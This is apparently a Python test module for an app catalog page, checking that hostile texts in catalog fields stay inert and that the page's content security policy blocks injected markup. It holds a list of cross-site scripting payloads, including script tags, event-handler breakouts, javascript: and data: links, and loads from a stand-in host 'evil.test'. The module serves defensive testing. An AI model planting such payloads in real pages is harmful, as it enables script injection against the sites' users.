"""Texts of a catalog that are markup, scripts and addresses: they stay texts, and the page fetches nothing."""
from support.catalog import store_url
from support.files import read, write
from support.pictures import png
from support.shop import check
from . import reading
from .browser import in_tab
from .contents import stock

HOST = "evil.test"
RUN = "document.title=String(window.ran=1);alert(1)"
# Texts that would run a script, add an element or ask the host, wherever a page puts them without care.
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<script src=https://{HOST}/s.js></script>",
    f"\"><img src=https://{HOST}/i.png onerror={RUN}>",
    f"\" autofocus onfocus=\"{RUN}\" onmouseover=\"{RUN}",
    f"' autofocus onfocus='{RUN}' onmouseover='{RUN}",
    f"</strong></span></a></li></ul></main></body><script>{RUN}</script>",
    f"</title></style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<base href=https://{HOST}/><link rel=stylesheet href=https://{HOST}/s.css><link rel=icon href=https://{HOST}/f.ico>",
    f"<style>@import 'https://{HOST}/s.css'; * {{ background: url(https://{HOST}/b.png) !important; }}</style>",
    f"<iframe src=https://{HOST}/f srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=https://{HOST}/o><embed src=https://{HOST}/e><video src=https://{HOST}/v autoplay>",
    f"<details open ontoggle={RUN}><summary>Free</summary></details>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;amp; &#60;b&#62; &copy &notanentity;",
    "<plaintext>", "<!--", "<!DOCTYPE html><html lang=xx><title>T</title>",
    "\u202etxt.exe\u202c \u2066hidden\u2069 \u200fright",
    "\x00\x07\x1b[31m red \x7f\x85\x9b\u2028next\tline\r\nend",
]
PLAIN = f"https://{HOST}/?a=1&copy=2&lt=3&amp;b=4#'onmouseover='{RUN}"
# Addresses of stores, and where they lead; in place of those that promod does not take there is Apple's page.
LINKS = {
    PLAIN: PLAIN,
    f"https://{HOST}/\"onmouseover=\"{RUN}": f"https://{HOST}/%22onmouseover=%22{RUN}",
    f"javascript:{RUN}": None, f"data:text/html,<script>{RUN}</script>": None, f"http://{HOST}/": None,
}


def _hostile(shop):
    """A catalog of such texts in all fields, and the same without them."""
    addresses, pictures = list(LINKS), [png() + f"<script>{RUN}</script>".encode(), png(), None]
    hostile, harmless = [], []
    for number, text in enumerate(PAYLOADS):
        harmless.append(shop.app(number, "App", pictures[number % len(pictures)], tagline={"en": "en"}))
        hostile.append({
            **harmless[-1], "name": f"App {text}", "tagline": {"en": text}, "category": f"Of {text}", text: text,
            "storeURLs": {"linux": addresses[number % len(addresses)]}})
    return hostile, harmless


def texts(shop, tab):
    """The page of a hostile catalog has the elements of a harmless one, also in a browser that ignores its protection."""
    hostile, harmless = _hostile(shop)
    shop.publish(harmless)
    shop.start()
    tab.open(shop.page())
    outline, head = reading.outline(tab), reading.head(tab)
    shop.publish(hostile)
    shop.daemon.refresh()
    listed = shop.daemon.ask("list")["apps"]
    path = shop.page()
    for is_protected in True, False:
        where = "with its protection" if is_protected else "without its protection"
        tab.call("Page.setBypassCSP", enabled=not is_protected)
        tab.open(path)
        for event in "Page.javascriptDialogOpening", "Runtime.consoleAPICalled", "Runtime.exceptionThrown", "Page.windowOpen", "Log.entryAdded":
            shop.expect(not tab.all(event), f"{where}: {event} {tab.all(event)[:1]}")
        shop.expect(tab.evaluate("window.ran") is None, f"{where}: a script ran")
        shop.expect_equal(tab.requests, [f"file://{path}"], f"{where}: the page asks for")
        extra = sorted(set(reading.outline(tab)) - set(outline))
        shop.expect(reading.outline(tab) == outline, f"{where}: there are other elements, with {extra[:3]}")
        shop.expect_equal(reading.head(tab), head, f"{where}: the page has")
        rows = reading.rows(tab)
        shop.expect_equal(len(rows), len(hostile), f"{where}: the rows are")
        for row, app, shown in zip(rows, hostile, listed):
            expected = [shown[member] for member in ("name", "category", "tagline")]
            shop.expect_equal(row.texts[-3:], expected, f"{where}: a row is")
            address = app["storeURLs"]["linux"]
            shop.expect_equal(row.links, [LINKS[address] or store_url({**app, "storeURLs": {}})], f"{where}: it leads to")
    return f"{len(PAYLOADS)} texts"


def protection(shop, tab):
    """Markup that someone has put into the page by hand."""
    stock(shop, tab)
    path = shop.page()
    page = read(path)
    spoilt = page.replace("<main>", "".join(PAYLOADS[:13]) + "<main>", 1)
    shop.expect(spoilt != page, "the page has no such place")
    write(path, spoilt)
    for is_protected in True, False:
        tab.call("Page.setBypassCSP", enabled=not is_protected)
        tab.open(path)
        ran = bool(tab.all("Page.javascriptDialogOpening")) or tab.evaluate("window.ran") is not None
        fetched = [url for url in tab.requests if HOST in url]
        if is_protected:
            shop.expect(not ran, "a script in the page runs")
            shop.expect(not fetched, f"the page asks for {fetched[:4]}")
        else:
            shop.expect(ran and fetched, "even without the protection nothing runs, so this shows nothing")


CHECKS = [
    check("texts", "markup in a catalog is shown as text: it adds no element, runs nothing, changes no link, and nobody is asked for anything",
          in_tab(texts)),
    check("protection", "even if markup came into the page, it could neither run a script nor fetch anything",
          in_tab(protection)),
]
